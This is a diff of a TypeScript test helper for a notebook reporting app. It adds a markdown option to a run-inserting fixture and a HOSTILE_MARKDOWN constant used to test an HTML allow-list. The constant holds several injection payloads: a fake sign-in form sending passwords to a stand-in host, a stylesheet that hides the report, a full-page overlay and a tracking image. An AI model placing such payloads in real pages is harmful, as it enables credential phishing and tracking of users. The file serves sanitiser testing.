@@ -2,7 +2,7 @@
 import type { PrismaClient } from "@/server/generated/prisma/client";
 import { fraudRun } from "../../unit/reports/fixture";
 
-export async function insertFinishedRun(db: PrismaClient, workspaceId: string, modelId: string, opts: { notebookId?: string; auc?: number; costPerCorrect?: number } = {}) {
+export async function insertFinishedRun(db: PrismaClient, workspaceId: string, modelId: string, opts: { notebookId?: string; auc?: number; costPerCorrect?: number; markdown?: string } = {}) {
   const run = fraudRun({ auc: opts.auc, costPerCorrect: opts.costPerCorrect });
   const notebook = opts.notebookId
     ? await db.notebook.findUniqueOrThrow({ where: { id: opts.notebookId } })
@@ -14,7 +14,7 @@ export async function insertFinishedRun(db: PrismaClient, workspaceId: string, m
           cells: JSON.stringify([{ id: "intro", type: "markdown", source: "# Weekly health" }]),
         },
       });
-  const cells = run.cells.map((c) => ({ id: c.cellId, type: c.type, title: c.title ?? undefined, ...(c.type === "markdown" ? { source: "# Weekly health" } : {}) }));
+  const cells = run.cells.map((c) => ({ id: c.cellId, type: c.type, title: c.title ?? undefined, ...(c.type === "markdown" ? { source: opts.markdown ?? "# Weekly health" } : {}) }));
   const created = await db.run.create({
     data: {
       notebookId: notebook.id,
@@ -44,3 +44,13 @@ export async function insertFinishedRun(db: PrismaClient, workspaceId: string, m
   });
   return { runId: created.id, notebookId: notebook.id };
 }
+
+/** Markdown that, before the allow-list, kept a phishing form, a stylesheet, a full-page overlay and a tracking image. */
+export const HOSTILE_MARKDOWN = [
+  "Notes.",
+  '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in again</button></form>',
+  "<style>.eb-report{display:none}</style>",
+  '<div style="position:fixed;top:0;left:0;right:0;bottom:0;z-index:9999;background:#fff">OVERLAYMARKER</div>',
+  '<div class="fixed inset-0 z-50">CLASSMARKER</div>',
+  "![pixel](https://evil.example/pixel.png)",
+].join("\n\n");
